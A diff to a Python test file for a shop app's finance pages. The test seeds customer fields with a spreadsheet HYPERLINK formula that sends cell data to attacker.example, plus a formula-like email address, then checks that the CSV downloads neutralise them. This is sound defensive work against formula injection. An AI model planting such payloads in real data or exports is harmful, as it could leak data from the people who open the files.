@@ -2,9 +2,11 @@
 
 from __future__ import annotations
 
+import re
 import time
 import uuid
 from collections.abc import Iterator
+from dataclasses import replace
 from datetime import date
 from pathlib import Path
 
@@ -14,6 +16,7 @@ from streamlit.testing.v1 import AppTest
 
 from shop import audit, auth, config, orders, payments, sync
 from shop.db import get_engine
+from tests.app.downloads import Downloads
 from tests.support import ROOT, use_emulator
 from tests.support_data import CHECKOUT_DETAILS, CUSTOMER, FIXTURE, store_charges
 
@@ -488,17 +491,55 @@ def test_orders_page_settles_an_order_whose_tab_closed_after_the_card_was_confir
     assert "1 unpaid order turned out paid." in texts(at.success)[0]
 
 
-def test_every_finance_table_can_be_downloaded_as_csv(env, api):
-    fixture_store()
-    charge = api.v1.charges.create(params={"amount": 2300, "currency": "usd", "source": "tok_visa"})
-    api.v1.refunds.create(params={"charge": charge.id, "amount": 500})
+FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"Open")'  # a customer's name, as typed at checkout
+FORMULA_EMAIL = "=1+2@example.com"  # a valid address that a spreadsheet would run
+
+
+def test_every_finance_table_can_be_downloaded_as_csv(env, api, monkeypatch):
+    downloads = Downloads(monkeypatch)
+    shipping = {"name": FORMULA, "address": {"line1": "1 Main St", "city": "Portland", "country": "US"}}
+    charge = api.v1.charges.create(
+        params={
+            "amount": 2300,
+            "currency": "usd",
+            "source": "tok_visa",
+            "shipping": shipping,
+            "receipt_email": FORMULA_EMAIL,
+        }
+    )
+    refund = api.v1.refunds.create(params={"charge": charge.id, "amount": 500})
+    with pytest.raises(stripe.CardError):
+        api.v1.charges.create(
+            params={"amount": 4600, "currency": "usd", "source": "tok_chargeDeclined", "shipping": shipping}
+        )
+    order = orders.create_order(replace(CUSTOMER, name=FORMULA), HAMMING, 1)
     sync.sync(api, full=True)
-    for page, key in (("failures", "failures_period"), ("refunds", None), ("orders", None)):
+    for page, key in (("charges", None), ("failures", "failures_period"), ("refunds", None), ("orders", None)):
         at = open_page(page)
         if key:
             at.selectbox(key=key).select("All time").run()
         assert not at.exception, at.exception
-        assert [button.label for button in at.get("download_button")], f"no CSV download on {page}"
+
+    by_prefix = {re.split(r"[-.]", name)[0]: name for name in downloads.names()}
+    assert set(by_prefix) >= {"charges", "failed", "refunds", "orders"}, downloads.names()
+    expected = {  # header, the row's id, its amount, a cell a customer typed
+        "charges": (
+            ["id", "created_utc", "display_status", "amount", "amount_captured", "amount_refunded"],
+            charge.id,
+            "23.00",
+            FORMULA,
+        ),
+        "failed": (["Time", "Customer", "Email", "Book", "Amount"], None, "46.00", FORMULA),
+        "refunds": (["Created", "Refund", "Amount", "Reason", "Status", "Charge"], refund.id, "5.00", FORMULA_EMAIL),
+        "orders": (["Created", "Order", "Status", "Customer", "Email", "Book"], order.id, "23.00", FORMULA),
+    }
+    for prefix, (header, row_id, amount, typed) in expected.items():
+        header_row, *rows = downloads.rows(by_prefix[prefix])
+        assert header_row[: len(header)] == header, (prefix, header_row)
+        (row,) = [row for row in rows if row_id is None or row_id in row]
+        assert amount in row, (prefix, row)
+        assert "'" + typed in row, (prefix, row)  # neutralised: a spreadsheet shows it as text
+        assert not any(cell.startswith(("=", "+", "@")) for cells in rows for cell in cells), prefix
 
 
 def test_a_table_csv_writes_money_with_two_places_times_in_utc_and_neutralises_formulas():
